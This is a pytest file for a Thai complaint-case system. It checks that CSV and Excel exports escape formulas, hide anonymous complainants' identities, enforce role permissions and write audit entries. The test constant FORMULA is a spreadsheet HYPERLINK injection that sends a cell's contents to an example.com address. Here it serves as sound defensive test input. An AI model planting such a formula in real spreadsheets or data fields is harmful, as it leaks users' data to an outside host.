"""Lists for spreadsheets, read back as Excel would read them."""

import csv
import io
from datetime import datetime

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import Session

from case_store.audit.models import AuditEntry
from case_store.cases.find_cases import CaseFilter
from case_store.exchange import lists
from case_store.exchange.cells import harmless, plain_text
from case_store.exchange.lists import list_csv, list_xlsx
from case_store.identity.models import Anonymity
from case_store.people.models import Role
from case_store.people.permissions import Actor, NotAllowed
from tests.case_store.kit import NOON, case

OFFICER = Actor("malee", Role.CASE_OFFICER, "50")
GOVERNOR = Actor("wit", Role.GOVERNOR, "50")
FORMULA = '=HYPERLINK("https://example.com?"&A1,"กดที่นี่")'


def _csv(session: Session, wanted: CaseFilter | None = None, **how: bool | str) -> bytes:
    parts = list_csv(session, wanted or CaseFilter(), by=OFFICER, at=NOON, **how)  # type: ignore[arg-type]
    return b"".join(parts)


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


class TestCsv:
    def test_its_bytes_are_what_excel_needs_for_thai(self, session: Session) -> None:
        of = case(session)
        content = _csv(session)

        assert content.startswith(b"\xef\xbb\xbf" + "เลขที่เรื่อง,วันที่รับเรื่อง,สถานะ,".encode())
        assert content.count(b"\r\n") == 2 and content.endswith(b"\r\n")
        assert f"\r\n{of.ref},23/11/2569,รับเรื่องแล้ว,".encode() in content

    def test_it_says_what_the_case_says(self, session: Session) -> None:
        of = case(
            session, subject='ไฟ, "ดับ"', description="บรรทัด\nที่สอง", district_code="5001",
            subdistrict_code="500101", postcode="50200",
        )  # fmt: skip
        (row,) = _rows(_csv(session))

        assert row["เรื่อง"] == of.subject and row["รายละเอียด"] == of.description
        assert row["ช่องทาง"] == "สายด่วน 1567" and row["ประเภทเรื่อง"] == "สาธารณูปโภค"
        assert (row["จังหวัด"], row["อำเภอ/เขต"]) == ("เชียงใหม่", "เมืองเชียงใหม่")
        assert (row["ตำบล/แขวง"], row["รหัสไปรษณีย์"]) == ("ศรีภูมิ", "50200")

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝"])
    def test_no_complaint_becomes_a_formula(self, session: Session, start: str) -> None:
        case(session, subject=start + FORMULA[1:])

        assert _rows(_csv(session))[0]["เรื่อง"] == "'" + start + FORMULA[1:]

    def test_the_english_one(self, session: Session) -> None:
        case(session)
        (row,) = _rows(_csv(session, language="en"))

        assert (row["Received"], row["State"]) == ("2026-11-23", "Received")
        assert row["Centre"] == "Damrongdhama Centre, Chiang Mai"

    def test_it_holds_what_was_asked_for_and_what_the_reader_may_see(
        self, session: Session
    ) -> None:
        case(session, province_code="83")
        case(session, category="land")
        wanted = case(session, category="drugs")

        rows = _rows(_csv(session, CaseFilter(category="drugs")))
        assert [row["เลขที่เรื่อง"] for row in rows] == [wanted.ref]
        assert len(_rows(_csv(session))) == 2

    def test_it_goes_on_over_pages(self, session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(lists, "_PAGE", 2)
        refs = {case(session).ref for _ in range(5)}
        parts = list(list_csv(session, CaseFilter(), by=OFFICER, at=NOON))

        assert len(parts) == 3
        assert {row["เลขที่เรื่อง"] for row in _rows(b"".join(parts))} == refs

    def test_it_is_bounded_and_says_so(
        self, session: Session, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(lists, "MOST_ROWS", 2)
        for _ in range(3):
            case(session)
        rows = _rows(_csv(session))

        assert len(rows) == 3
        assert rows[2]["เลขที่เรื่อง"].startswith("แสดงเพียง 2 เรื่องแรก")


class TestIdentity:
    def test_it_is_left_out_unless_asked_for(self, session: Session) -> None:
        case(session, complainant_name="สมชาย", complainant_phone="0812345678")
        content = _csv(session).decode()

        assert "สมชาย" not in content and "ผู้ร้อง," not in content

    def test_it_is_never_of_one_who_stays_unknown_to_all(self, session: Session) -> None:
        case(session, complainant_name="สมชาย", complainant_phone="0812345678")
        case(session, complainant_name="สมหญิง", anonymity=Anonymity.TO_ALL)
        rows = _rows(_csv(session, with_identity=True))

        assert {(row["ผู้ร้อง"], row["โทรศัพท์ผู้ร้อง"]) for row in rows} == {
            ("สมชาย", "081 234 5678"),
            ("ปกปิด", ""),
        }

    def test_whoever_may_not_know_cannot_ask_for_it(self, session: Session) -> None:
        with pytest.raises(NotAllowed):
            list_csv(session, CaseFilter(), by=GOVERNOR, at=NOON, with_identity=True)


class TestPermission:
    @pytest.mark.parametrize("role", [Role.AGENT, Role.AGENCY_OFFICER, Role.ADMINISTRATOR])
    def test_not_everybody_takes_lists_out(self, session: Session, role: Role) -> None:
        actor = Actor("x", role, "50", agency_id=1)
        with pytest.raises(NotAllowed):
            list_csv(session, CaseFilter(), by=actor, at=NOON)

    def test_it_is_in_the_audit_trail_before_the_first_row_is_read(self, session: Session) -> None:
        list_csv(session, CaseFilter(q="สมชาย", category="land"), by=OFFICER, at=NOON)

        entry = session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
        assert entry is not None
        assert (entry.action, entry.chain) == ("cases.exported", "50")
        assert entry.facts == {"format": "csv", "filters": 2, "identity": False}
        assert "สมชาย" not in str(entry.facts)


class TestXlsx:
    def test_it_opens_with_texts_as_texts_and_days_as_days(self, session: Session) -> None:
        of = case(session, subject=FORMULA, description="สองบรรทัด\nจริง")
        content = list_xlsx(session, CaseFilter(), by=OFFICER, at=NOON)

        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        names = [cell.value for cell in sheet[1]]
        row = dict(zip(names, sheet[2], strict=True))
        assert row["เลขที่เรื่อง"].value == of.ref
        assert (row["เรื่อง"].value, row["เรื่อง"].data_type) == (FORMULA, "s")
        assert row["วันที่รับเรื่อง"].value == datetime(2026, 11, 23)  # noqa: DTZ001 (a cell has no zone)
        assert row["วันที่รับเรื่อง"].number_format == "[$-1070000]d/mm/yyyy;@"
        assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
        assert sheet.column_dimensions["J"].width == 45

    def test_no_cell_is_a_formula(self, session: Session) -> None:
        case(session, subject=FORMULA, respondent="#N/A", place_note="+66", description="@SUM(1)")
        content = list_xlsx(session, CaseFilter(), by=OFFICER, at=NOON)

        book = openpyxl.load_workbook(io.BytesIO(content))
        kinds = {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row}
        assert kinds == {"s", "d", "n"}  # n: the empty ones


@given(st.text(max_size=200))
def test_no_cell_of_a_csv_begins_as_a_formula(text: str) -> None:
    target = io.StringIO(newline="")
    csv.writer(target, lineterminator="\r\n").writerow([harmless(text), "x"])
    ((cell, _),) = csv.reader(io.StringIO(target.getvalue(), newline=""))

    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert cell.removeprefix("'") == plain_text(text).removeprefix("'")


@given(st.text(max_size=50))
def test_every_text_fits_into_a_cell(text: str) -> None:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    assert not ILLEGAL_CHARACTERS_RE.search(plain_text(text))
    plain_text(text).encode()
